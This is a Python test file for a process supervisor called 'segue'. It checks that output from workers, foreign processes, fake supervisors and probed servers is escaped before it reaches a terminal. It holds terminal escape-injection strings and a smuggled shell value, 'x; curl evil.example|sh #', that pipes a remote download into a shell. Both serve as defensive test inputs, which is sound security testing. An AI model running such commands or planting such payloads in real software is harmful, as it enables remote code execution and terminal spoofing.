"""What workers, foreign processes, servers and supervisors say reaches no terminal raw."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.supervisor.instance import ADDRESS, ROOT, SERVER, Instance
from tests.waiting import wait_until

from segue.address import Address
from segue.observe.snapshot import Observer

pytestmark = pytest.mark.root

EVIL = "evil\x1b]0;pwned\x07\r\x1b[2Ksegue: all is well\x9b31m\u2028\u202e"
SHOWN = "evil\\x1b]0;pwned\\x07"
# Another user's server: its first argument, and its environment, are what it likes.
LISTENER = """
import socket, sys, time
one = socket.socket()
one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
one.bind(("127.0.0.1", 8080))
one.listen()
time.sleep(60)
"""


def acts(text: str) -> set[str]:
    """Characters that a terminal or a reader of lines would act upon, lines' ends left out."""
    kinds = {"Cc", "Cf", "Zl", "Zp", "Cs"}
    return {one for one in text if unicodedata.category(one) in kinds and one != "\n"}


def segue(tmp_path: Path, *args: str) -> str:
    """All that a command prints."""
    done = subprocess.run(
        [sys.executable, "-m", "segue", *args],
        cwd=ROOT, env={**os.environ, "SEGUE_DIRECTORY": str(tmp_path / "run")},
        capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    text = (done.stdout + done.stderr).decode()
    assert "Traceback" not in text
    return text


@contextlib.contextmanager
def listener(**env: str) -> Iterator[int]:
    """A foreign process that listens at the address, under a name that harms a terminal."""
    process = subprocess.Popen(
        [f"{EVIL} -", "-S", "-E", "-c", LISTENER], executable=sys.executable,
        env={**os.environ, **env},
    )  # fmt: skip
    with process, Observer() as observer:
        try:
            wait_until(lambda: observer.snapshot(Address.parse(ADDRESS)).listeners, "it listens")
            yield process.pid
        finally:
            process.kill()


@pytest.mark.parametrize("style", ["prefix", "json"])
def test_what_a_worker_prints_is_made_visible(netns: int, tmp_path: Path, style: str) -> None:
    """In its own lines, and in its last words, which are the supervisor's line."""
    (tmp_path / "words").write_text(EVIL)
    command = ("sh", "-c", f"cat {tmp_path}/words; exit 3")
    flags = ("--output", style, "--crash-limit", "1")
    with Instance(tmp_path, *flags, command=command) as instance:
        assert instance.wait() != 0
        said = instance.said()
    assert "last words" in said
    assert acts(said) == set()
    if style == "prefix":
        assert f"worker 1.1 | {SHOWN}" in said
        assert f"last words: {SHOWN}" in said
    else:
        lines = [json.loads(line) for line in said.splitlines()]
        assert EVIL in {line["line"] for line in lines}


def test_the_name_of_a_foreign_process_is_made_visible(netns: int, tmp_path: Path) -> None:
    """Where it is refused, audited, adopted and listed by the doctor."""
    with listener() as pid:
        for args in (
            ("run", "--bind", ADDRESS, "--", *SERVER),
            ("audit", ADDRESS),
            ("audit", ADDRESS, "--json"),
            ("adopt", str(pid)),
            ("doctor",),
        ):
            said = segue(tmp_path, *args)
            assert acts(said) == set(), args
            assert "evil" in said, args


def test_a_command_is_advised_only_for_what_is_known(netns: int, tmp_path: Path) -> None:
    """A process may call itself the worker of any instance; no word of its own is advised."""
    (tmp_path / "run").mkdir()
    name = "x; curl evil.example|sh #"
    with listener(SEGUE_WORKER="/run/segue/x.w1", SEGUE_NAME=name):
        said = segue(tmp_path, "run", "--bind", ADDRESS, "--", *SERVER)
    assert "curl" not in said
    assert "segue restart, as the user whose segue run it is, renews it" in said


def test_what_a_false_supervisor_answers_is_made_visible(tmp_path: Path) -> None:
    """Progress, errors and a status; and nonsense is a sentence."""
    answers: list[list[Any]] = [
        [{"say": EVIL}, {"exit": 1, "error": EVIL}],
        [{"exit": 0, "status": {"name": EVIL}}],
        [{"exit": 0}],
        [{"exit": 0, "status": 7}],
        ["nonsense"],
        [{"exit": EVIL}],
    ]
    path = str(tmp_path / "sock")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
        server.listen()

        def serve() -> None:
            for one in answers:
                client, _ = server.accept()
                with client:
                    client.recv(65536)
                    client.sendall(b"".join(json.dumps(line).encode() + b"\n" for line in one))

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        for one in answers:
            said = segue(tmp_path, "status", "--control", path)
            assert acts(said) == set(), one
            assert said.startswith(("segue: ", "  evil")), one
        thread.join()


def test_an_answer_without_an_end_is_read_no_further(tmp_path: Path) -> None:
    """The client gives up after four MiB, with a sentence."""
    path, sent = str(tmp_path / "sock"), []
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
        server.listen()

        def serve() -> None:
            client, _ = server.accept()
            with client, contextlib.suppress(BrokenPipeError, ConnectionResetError):
                for _ in range(300):
                    client.sendall(b"x" * (1 << 20))
                    sent.append(1)

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        assert "is not a supervisor" in segue(tmp_path, "status", "--control", path)
        thread.join()
    assert len(sent) < 10


def test_what_a_probed_server_says_is_made_visible(netns: int, tmp_path: Path) -> None:
    """Versions by header, on the screen and in the page."""
    page = tmp_path / "page.html"
    with socket.create_server(("127.0.0.1", 8080)) as server:

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    client, _ = server.accept()
                    with client:
                        client.recv(65536)
                        client.sendall(
                            b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n"
                            b"X-Version: v1\x1b]0;pwned\x07\r\n\r\n"
                        )

        threading.Thread(target=serve, daemon=True).start()
        said = segue(
            tmp_path, "probe", f"http://{ADDRESS}/", "--count", "5", "--version-from",
            "header:x-version", "--html", str(page),
        )  # fmt: skip
        server.shutdown(socket.SHUT_RDWR)
    assert "v1\\x1b]0;pwned\\x07" in said
    assert acts(said) == set()
    assert acts(page.read_text()) == set()
